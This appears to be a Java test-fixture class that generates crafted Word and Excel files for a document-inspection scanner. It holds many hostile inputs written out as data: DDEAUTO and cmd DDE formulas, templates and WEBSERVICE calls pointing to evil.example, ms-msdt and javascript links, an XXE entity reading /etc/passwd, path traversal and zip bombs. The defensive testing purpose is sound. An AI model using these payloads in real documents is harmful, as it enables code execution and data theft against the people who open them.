package vn.laichau.hatangso.agency.inspection;

import static java.nio.charset.StandardCharsets.UTF_16BE;
import static java.nio.charset.StandardCharsets.UTF_16LE;
import static vn.laichau.hatangso.agency.inspection.CraftedFile.RELATIONS;
import static vn.laichau.hatangso.agency.inspection.CraftedFile.field;
import static vn.laichau.hatangso.agency.inspection.CraftedFile.office;
import static vn.laichau.hatangso.agency.inspection.CraftedFile.relation;

import java.util.stream.Stream;
import vn.laichau.hatangso.agency.surroundings.SampleFiles;

/** Office files that ask a program, fetch what lies elsewhere or hide what they are. */
final class CraftedOfficeFiles {

    private CraftedOfficeFiles() {}

    static Stream<CraftedFile> all() {
        return Stream.of(relations(), targets(), parts(), contentTypes(), fields(), formulas(), containers())
                .flatMap(kind -> kind);
    }

    private static Stream<CraftedFile> relations() {
        var kinds = Stream.of(
                        "vbaProject",
                        "wordVbaData",
                        "oleObject",
                        "control",
                        "attachedTemplate",
                        "aFChunk",
                        "subDocument",
                        "frame",
                        "externalLink",
                        "externalLinkPath",
                        "connections",
                        "queryTable",
                        "xlMacrosheet",
                        "dialogsheet",
                        "audio",
                        "video",
                        "mailMergeSource",
                        "recipientData",
                        "keyMapCustomizations",
                        "volatileDependencies",
                        "ui/extensibility",
                        "webextension",
                        "attachedToolbars",
                        "something-new")
                .map(kind -> office(
                        "a relation of the kind " + kind,
                        "docx",
                        "word/_rels/document.xml.rels",
                        relation(kind, "x.xml", "")));
        var spelled = Stream.of(
                        RELATIONS,
                        "http://purl.oclc.org/ooxml/officeDocument/relationships/",
                        "http://schemas.microsoft.com/office/2006/relationships/")
                .flatMap(address -> Stream.of(
                                "attachedTemplate",
                                "&#x61;ttachedTemplate",
                                "&#97;ttachedtemplate",
                                "ole&#79;bject",
                                "OLEOBJECT")
                        .map(kind -> office(
                                "a relation " + address + kind,
                                "xlsx",
                                "xl/_rels/workbook.xml.rels",
                                relation(address + kind, "x.xml", ""))));
        var template = relation("attachedTemplate", "https://evil.example/t.dotm", "External");
        var written = Stream.of(
                office(
                        "a template in single quotes",
                        "docx",
                        "word/_rels/settings.xml.rels",
                        template.replace('"', '\'')),
                office(
                        "a template in UTF-16",
                        "docx",
                        "word/_rels/settings.xml.rels",
                        ("\ufeff" + template).getBytes(UTF_16LE)),
                office(
                        "a template in the other UTF-16",
                        "docx",
                        "word/_rels/settings.xml.rels",
                        ("\ufeff" + template).getBytes(UTF_16BE)),
                office(
                        "a template with a prefix",
                        "docx",
                        "word/_rels/settings.xml.rels",
                        template.replace("xmlns=", "xmlns:p=")
                                .replace("<R", "<p:R")
                                .replace("</R", "</p:R")),
                office(
                        "a template behind a long comment",
                        "docx",
                        "word/_rels/settings.xml.rels",
                        "<!--" + "x".repeat(100_000) + "-->" + template),
                office("a template of a part in capitals", "docx", "WORD/_RELS/SETTINGS.XML.RELS", template));
        return Stream.of(kinds, spelled, written).flatMap(all -> all);
    }

    private static Stream<CraftedFile> targets() {
        return Stream.of(
                        "image http://evil.example/x.png",
                        "image \\\\evil.example\\x.png",
                        "image //evil.example/x.png",
                        "image fi&#x6c;e:///c:/x.png",
                        "hyperlink file:///c:/windows/x.exe",
                        "hyperlink \\\\evil.example\\share",
                        "hyperlink //evil.example/share",
                        "hyperlink ms-msdt:/id",
                        "hyperlink javascript:x",
                        "hyperlink java&#9;script:x",
                        "hyperlink search-ms:query",
                        "hyperlink fi&#x6c;e:///c:/x",
                        "hyperlink c:\\x.exe",
                        "stylesheet http://evil.example/x")
                .flatMap(words -> Stream.of("External", "&#69;xternal", "external")
                        .limit(words.startsWith("image h") ? 3 : 1)
                        .map(mode -> {
                            var kind = words.substring(0, words.indexOf(' '));
                            var target = words.substring(words.indexOf(' ') + 1);
                            return office(
                                    words + ", " + mode,
                                    "docx",
                                    "word/_rels/document.xml.rels",
                                    relation(kind, target, mode));
                        }));
    }

    private static Stream<CraftedFile> parts() {
        return Stream.of(
                        "xl/vbaProject.bin",
                        "XL/VBAPROJECT.BIN",
                        "xl/vbaData.xml",
                        "xl/macrosheets/sheet1.xml",
                        "xl/activeX/activeX1.xml",
                        "xl/activeX/activeX1.bin",
                        "xl/embeddings/oleObject1.bin",
                        "xl/embeddings/setup.exe",
                        "xl/embeddings/x.xlsm",
                        "xl/embeddings/x.doc",
                        "xl/afchunk.htm",
                        "xl/afchunk.rtf",
                        "xl/afchunk.mht",
                        "x.lnk",
                        "x.hta",
                        "x.js",
                        "x.vbs",
                        "x.jar",
                        "x.ps1",
                        "customUI/customUI.xml",
                        "xl/externalLinks/externalLink1.xml",
                        "xl/media/video.mp4",
                        "xl/media/x.png.exe",
                        "xl/printerSettings.bin",
                        "xl/webextensions/taskpanes.xml",
                        "x")
                .map(part -> office("a part " + part, "xlsx", part, "<a/>"));
    }

    private static Stream<CraftedFile> contentTypes() {
        var types = Stream.of(
                        "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
                        "application/vnd.ms-excel.sheet.m&#x61;croEnabled.main+xml",
                        "application/vnd.ms-word.document.MACROENABLED.main+xml",
                        "application/vnd.ms-office.vbaProject",
                        "application/vnd.ms-office.activeX+xml",
                        "application/vnd.openxmlformats-officedocument.oleObject",
                        "application/vnd.ms-excel.macrosheet+xml",
                        "application/x-msdownload")
                .map(type -> "<Types><Override PartName=\"/xl/workbook.xml\" ContentType=\"" + type + "\"/></Types>")
                .toList();
        var plain = types.stream().map(type -> office("content types " + type, "xlsx", "[Content_Types].xml", type));
        var wide = office(
                "content types in UTF-16", "xlsx", "[Content_Types].xml", ("\ufeff" + types.get(0)).getBytes(UTF_16LE));
        return Stream.concat(plain, Stream.of(wide));
    }

    private static Stream<CraftedFile> fields() {
        var word = "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"";
        var dde = "DDEAUTO c:\\x.exe";
        return Stream.of(
                office("a field DDE", "docx", "word/document.xml", field("DDE cmd x")),
                office("a field DDEAUTO", "docx", "word/document.xml", field(" " + dde)),
                office("a field in small letters", "docx", "word/document.xml", field("ddeauto x")),
                office("a field in pieces", "docx", "word/document.xml", field(" D", "DE", "AUTO c:\\x.exe")),
                office("a field after a piece of spaces", "docx", "word/document.xml", field(" ".repeat(100), dde)),
                office("a field by numbers", "docx", "word/document.xml", field("D&#68;E x")),
                office("a field as data", "docx", "word/document.xml", field("<![CDATA[DDE x]]>")),
                office("a field of a header", "docx", "word/header1.xml", field(dde)),
                office("a field of a footnote", "docx", "word/footnotes.xml", field(dde)),
                office("a field of a comment", "docx", "word/comments.xml", field(dde)),
                office(
                        "a field that was deleted",
                        "docx",
                        "word/document.xml",
                        field(dde).replace("instrText", "delInstrText")),
                office("a field in UTF-16", "docx", "word/document.xml", ("\ufeff" + field(dde)).getBytes(UTF_16LE)),
                office(
                        "a field without an end",
                        "docx",
                        "word/document.xml",
                        "<w:p " + word + "><w:fldChar w:fldCharType=\"begin\"/><w:instrText>" + dde
                                + "</w:instrText></w:p>"),
                office(
                        "a field without a beginning",
                        "docx",
                        "word/document.xml",
                        "<w:p " + word + "><w:instrText>" + dde + "</w:instrText></w:p>"),
                office(
                        "a simple field",
                        "docx",
                        "word/document.xml",
                        "<w:fldSimple " + word + " w:instr=\" " + dde + "\"/>"),
                office("a field of a text that lies elsewhere", "docx", "text/main.xml", field(dde)),
                office(
                        "a field that includes",
                        "docx",
                        "word/document.xml",
                        field("INCLUDETEXT \"\\\\\\\\evil\\\\x.docx\"")),
                office(
                        "a field with a picture",
                        "docx",
                        "word/document.xml",
                        field(" includepicture \"https://evil.example/x.png\" \\d")),
                office(
                        "a field of an object",
                        "docx",
                        "word/document.xml",
                        field("LINK Excel.Sheet.12 \"c:\\\\x.xlsx\"")),
                office("a field of a database", "docx", "word/document.xml", field("DATABASE \\c \"DSN=x\"")),
                office("a field with a macro", "docx", "word/document.xml", field("MACROBUTTON x click")),
                office("a link to a file", "docx", "word/document.xml", field("HYPERLINK \"file:///c:/x.exe\"")),
                office("a link to a share", "docx", "word/document.xml", field("HYPERLINK \"\\\\\\\\evil\\\\x.exe\"")),
                office(
                        "a link to a program",
                        "docx",
                        "word/document.xml",
                        field("HYPERLINK \\o \"a tip\" \\n ms-msdt:/id")),
                office(
                        "a link in pieces",
                        "docx",
                        "word/document.xml",
                        field("HYPER", "LINK \"fi", "le:///c:/x\" \\t \"_blank\"")),
                office(
                        "a simple link",
                        "docx",
                        "word/document.xml",
                        "<w:fldSimple " + word + " w:instr='HYPERLINK \"javascript:x\"'/>"),
                office(
                        "a link without an end",
                        "docx",
                        "word/document.xml",
                        field("HYPERLINK c:\\x.exe").replaceAll("<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>", "")),
                office(
                        "letters to many",
                        "docx",
                        "word/settings.xml",
                        "<w:settings " + word
                                + "><w:mailMerge><w:connectString w:val=\"DSN=x\"/></w:mailMerge></w:settings>"),
                office(
                        "a field whose first word is a field",
                        "docx",
                        "word/document.xml",
                        field("</w:instrText></w:r>"
                                + field("QUOTE 68 68 69")
                                        .replace("<w:p ", "<w:x ")
                                        .replace("</w:p>", "</w:x>") + "<w:r><w:instrText> x")));
    }

    private static Stream<CraftedFile> formulas() {
        var elsewhere = Stream.of(
                        "http://schemas.openxmlformats.org/spreadsheetml/2006/main",
                        "http://purl.oclc.org/ooxml/spreadsheetml/main",
                        "http://schemas.microsoft.com/office/excel/2006/main")
                .map(words -> office(
                        "a formula of a sheet that lies elsewhere, " + words,
                        "xlsx",
                        "sheets/1.xml",
                        "<a xmlns='" + words + "'><f>cmd|x!A0</f></a>"));
        var plain = Stream.of(
                        "<f>cmd|'/c calc'!A0</f>",
                        "<f>cmd&#124;'/c calc'!A0</f>",
                        "<f><![CDATA[cmd|x!A0]]></f>",
                        "<f>'cmd'|'/c calc'!A0</f>",
                        "<f>1+\"a\"&amp;cmd|x!A0</f>",
                        "<f>CALL(\"x\",\"y\")</f>",
                        "<f>call (1)</f>",
                        "<f>REGISTER.ID(\"x\")</f>",
                        "<f>WEBSERVICE(\"https://evil.example\")</f>",
                        "<f>_xlfn.IMAGE(\"https://evil.example/x.png\")</f>",
                        "<f>RTD(\"x\",\"\",\"y\")</f>",
                        "<f>DDE(\"cmd\";\"x\";\"y\")</f>",
                        "<f>SQL.REQUEST(\"DSN=x\")</f>",
                        "<definedName name=\"x\">cmd|x!A0</definedName>",
                        "<formula>cmd|x!A0</formula>",
                        "<formula1>cmd|x!A0</formula1>",
                        "<formula2>cmd|x!A0</formula2>",
                        "<ddeLink/>")
                .map(formula -> office(formula, "xlsx", "xl/worksheets/sheet1.xml", "<a>" + formula + "</a>"));
        return Stream.concat(plain, elsewhere);
    }

    private static Stream<CraftedFile> containers() {
        var doctype = "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>";
        var macros = office("", "xlsx", "xl/vbaProject.bin", "x").bytes();
        var nested =
                office("", "xlsx", "xl/embeddings/x.xlsx", SampleFiles.xlsx()).bytes();
        return Stream.of(
                office("a path upwards", "xlsx", "../x.xml", "<a/>"),
                office("a path from the root", "xlsx", "/x.xml", "<a/>"),
                office("a path of Windows", "xlsx", "xl\\x.xml", "<a/>"),
                office("a DTD", "xlsx", "xl/x.xml", doctype),
                office("a DTD behind a comment", "xlsx", "xl/x.xml", "<!--" + "x".repeat(5_000) + "-->" + doctype),
                office("a DTD in UTF-16", "xlsx", "xl/x.xml", ("\ufeff" + doctype).getBytes(UTF_16LE)),
                office("a part that ends too soon", "xlsx", "xl/x.xml", "<a>"),
                office("a document with macros in it", "docx", "word/embeddings/x.xlsx", macros),
                office("a document in a document in a document", "docx", "word/embeddings/x.xlsx", nested),
                office("a document in it that bursts", "docx", "word/embeddings/x.xlsx", SampleFiles.bomb()),
                office("a program that is called a document", "docx", "word/embeddings/x.xlsx", "MZ"),
                new CraftedFile("a container that bursts", "xlsx", SampleFiles.bomb()));
    }
}
